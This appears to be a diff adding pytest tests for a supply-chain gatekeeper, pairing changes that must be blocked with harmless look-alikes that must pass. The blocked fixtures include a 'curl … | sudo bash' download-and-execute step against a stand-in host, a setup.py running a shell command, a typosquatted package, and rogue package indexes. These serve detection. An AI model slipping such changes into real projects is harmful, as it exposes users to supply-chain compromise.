@@ -1,0 +1,68 @@
+"""Other code gets installed, built or run; beside it what an asked-for change looks like."""
+
+import pytest
+from tree_evidence import permit, tree_evidence
+
+from gatekeeper.checks.supply_chain import check
+
+H1, H2 = "sha256:" + "1" * 64, "sha256:" + "2" * 64
+LOCK = f"iniconfig==2.1.0 \\\n    --hash={H1}\npytest==9.2.0 --hash={H2}\n"
+TOML = '[project]\nname = "shop"\ndependencies = ["requests>=2"]\n\n[build-system]\nrequires = ["setuptools>=68"]\nbuild-backend = "setuptools.build_meta"\n'
+CI = "on: push\njobs:\n  t:\n    steps:\n      - uses: actions/checkout@" + "a" * 40 + "\n      - run: pytest\n"
+REPO = {"requirements-dev.txt": LOCK, "pyproject.toml": TOML, ".github/workflows/ci.yml": CI, "package.json": '{"name": "x", "dependencies": {"react": "1.0.0"}}', "Dockerfile": "FROM python@sha256:" + "3" * 64 + "\n"}  # fmt: skip
+
+CHEATS = {
+    "added": ("DEPENDENCY_ADDED", {"pyproject.toml": TOML.replace('"requests>=2"', '"requests>=2", "fast-cells"')}),
+    "added to the build": ("DEPENDENCY_ADDED", {"pyproject.toml": TOML.replace('"setuptools>=68"', '"setuptools>=68", "build-magic"')}),
+    "added in a new file": ("DEPENDENCY_ADDED", {"requirements/extra.txt": "cellwidths\n"}),
+    "npm": ("DEPENDENCY_ADDED", {"package.json": '{"dependencies": {"react": "1.0.0", "reakt": "1"}}'}),
+    "url": ("DEPENDENCY_DIRECT_SOURCE", {"pyproject.toml": TOML.replace("requests>=2", "requests @ https://e.example/r.whl")}),
+    "vcs line": ("DEPENDENCY_DIRECT_SOURCE", {"requirements-dev.txt": LOCK + "git+https://e.example/r.git@main#egg=pytest\n"}),
+    "editable": ("DEPENDENCY_DIRECT_SOURCE", {"requirements-dev.txt": LOCK + "-e ./vendor/thing\n"}),
+    "npm git": ("DEPENDENCY_DIRECT_SOURCE", {"package.json": '{"dependencies": {"react": "github:x/react"}}'}),
+    "index": ("DEPENDENCY_INDEX_ADDED", {"requirements-dev.txt": "--index-url=https://e.example/simple\n" + LOCK}),
+    "find links": ("DEPENDENCY_INDEX_ADDED", {"requirements-dev.txt": "-f ./wheels\n" + LOCK}),
+    "hashes": ("DEPENDENCY_PINS_DROPPED", {"requirements-dev.txt": "iniconfig==2.1.0\npytest==9.2.0\n"}),
+    "one hash": ("DEPENDENCY_PINS_DROPPED", {"requirements-dev.txt": f"iniconfig==2.1.0 --hash={H1}\npytest==9.2.0\n"}),
+    "hash swapped": ("DEPENDENCY_HASH_CHANGED", {"requirements-dev.txt": LOCK.replace(H2, "sha256:" + "9" * 64)}),
+    "backend": ("BUILD_BACKEND_CHANGED", {"pyproject.toml": TOML.replace('"setuptools.build_meta"', '"make"\nbackend-path = ["."]')}),
+    "setup.py": ("BUILD_HOOK_ADDED", {"setup.py": "import os\nfrom setuptools import setup\nos.system('id')\nsetup()\n"}),
+    "pth": ("START_HOOK_ADDED", {"src/a.pth": "import os\n"}),
+    "postinstall": ("INSTALL_SCRIPT_ADDED", {"package.json": '{"scripts": {"postinstall": "node x.js"}, "dependencies": {"react": "1.0.0"}}'}),
+    "action": ("CI_ACTION_UNPINNED", {".github/workflows/ci.yml": CI.replace("@" + "a" * 40, "@v4")}),
+    "pipe": ("DOWNLOAD_EXECUTED", {".github/workflows/ci.yml": CI + "      - run: curl -sL https://e.example/i | sudo bash\n"}),
+    "image": ("IMAGE_UNPINNED", {"Dockerfile": "FROM python:latest\n"}),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", CHEATS)
+def test_a_change_of_what_gets_executed_is_stopped(name):
+    code, after = CHEATS[name]
+    found = check(tree_evidence(REPO, after))
+    assert [(f.code, f.category, f.effect.value) for f in found] == [(code, "supply_chain", "blocks")]
+
+
+HONEST = {
+    "version moved with its hash": {"requirements-dev.txt": LOCK.replace("9.2.0", "9.3.0").replace(H2, "sha256:" + "4" * 64)},
+    "dependency dropped": {"pyproject.toml": TOML.replace('"requests>=2"', "")},
+    "comment": {"requirements-dev.txt": "# made by a tool\n" + LOCK},
+    "known elsewhere": {"pyproject.toml": TOML.replace("requests>=2", "requests>=3")},
+    "editable self": {"requirements.txt": "-e .[dev]\n"},
+    "pin moved": {".github/workflows/ci.yml": CI.replace("a" * 40, "b" * 40)},
+    "description": {"pyproject.toml": TOML.replace('name = "shop"', 'name = "shop"\ndescription = "See https://e.example"')},
+    "digest moved": {"Dockerfile": "FROM python@sha256:" + "5" * 64 + "\n"},
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", HONEST)
+def test_an_honest_look_alike_passes(name):
+    assert check(tree_evidence(REPO, HONEST[name])) == ()
+
+
+def test_a_permit_covers_exactly_the_named_dependency():
+    after = {"pyproject.toml": TOML.replace('"requests>=2"', '"requests>=2", "Typing_Extensions>=4"')}
+    assert check(tree_evidence(REPO, after, permits=[permit("add_dependency", names=["typing-extensions"])])) == ()
+    near = {"pyproject.toml": TOML.replace('"requests>=2"', '"requests>=2", "typing-extension"')}
+    (found,) = check(tree_evidence(REPO, near, permits=[permit("add_dependency", names=["typing-extensions"])]))
+    assert found.code == "DEPENDENCY_ADDED"
+    assert "looks like typing-extensions" in found.message
